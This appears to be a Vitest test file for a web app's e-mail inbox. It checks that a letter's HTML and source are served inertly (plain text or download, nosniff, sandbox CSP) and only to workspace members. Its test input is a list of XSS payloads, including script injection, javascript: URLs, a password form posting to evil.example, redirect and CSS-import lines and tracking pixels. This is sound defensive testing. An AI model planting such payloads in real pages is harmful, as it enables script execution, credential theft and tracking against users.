import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newRun, receiveLetters } from '../../../server/channels/email/receive.js';
import { listInboxes } from '../../../server/inboxes/inboxes.js';
import { systemScope } from '../../../server/workspaces/scope.js';
import { addCompany, ask, becomeOwner, type Running, type SignedIn, startServer } from '../agents/running.js';
import { raw } from './fixtures.js';

/** E4, the server's half: what could run in a browser leaves as text or as a download, whatever it is. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><foreignObject><script>alert(1)</script></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; @font-face { src: url(https://evil.example/f) }</style>',
  '<img id=body name=getElementById>',
  '<img src="https://evil.example/pixel.gif" width=1 srcset="https://evil.example/2x 2x">',
  '<table background="https://evil.example/b.png"><td>x</td></table>',
].join('\n');

let server: Running;
let owner: SignedIn;
let eventId: string;

beforeAll(async () => {
  server = await startServer();
  owner = await becomeOwner(server);
  const scope = systemScope(owner.workspaceId);
  const [inbox] = await listInboxes(scope, 'email');
  if (!inbox) throw new Error('A new workspace has an e-mail inbox.');
  const source = `From: nina@tidewater.example\nSubject: hostile\nMessage-ID: <h@tidewater.example>\nContent-Type: text/html; charset=utf-8\n\n${hostile}`;
  const [received] = await receiveLetters(scope, [raw(Buffer.from(source))], { inbox, run: newRun() });
  eventId = received?.eventId ?? '';
});
afterAll(() => server.stop());

const address = (part: string, workspaceId = owner.workspaceId) =>
  `/api/workspaces/${workspaceId}/emails/${eventId}/${part}`;

describe("a letter's HTML and source", () => {
  it('E4: go out as they came, and as nothing that a browser would run', async () => {
    const html = await ask(server, 'GET', address('html'), { token: owner.token });
    expect(html.status).toBe(200);
    expect(String(html.body.text).trim()).toBe(hostile);
    expect(html.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    const source = await ask(server, 'GET', address('source'), { token: owner.token });
    expect(String(source.body.text)).toContain('Subject: hostile');
    expect(source.headers.get('content-type')).toBe('application/octet-stream');
    for (const { headers } of [html, source]) {
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(headers.get('content-security-policy')).toContain("sandbox; default-src 'none'");
    }
  });

  it('exist only for those who belong to the workspace', async () => {
    const stranger = await addCompany(server, 'Other', 'other@example.com');
    for (const part of ['html', 'source']) {
      expect((await ask(server, 'GET', address(part))).status).toBe(401);
      expect((await ask(server, 'GET', address(part), { token: stranger.token })).status).toBe(404);
      expect(
        (await ask(server, 'GET', address(part, stranger.workspaceId), { token: stranger.token })).status,
      ).toBe(404);
    }
    const unknown = `/api/workspaces/${owner.workspaceId}/emails/no-such-event/html`;
    expect((await ask(server, 'GET', unknown, { token: owner.token })).status).toBe(404);
  });
});
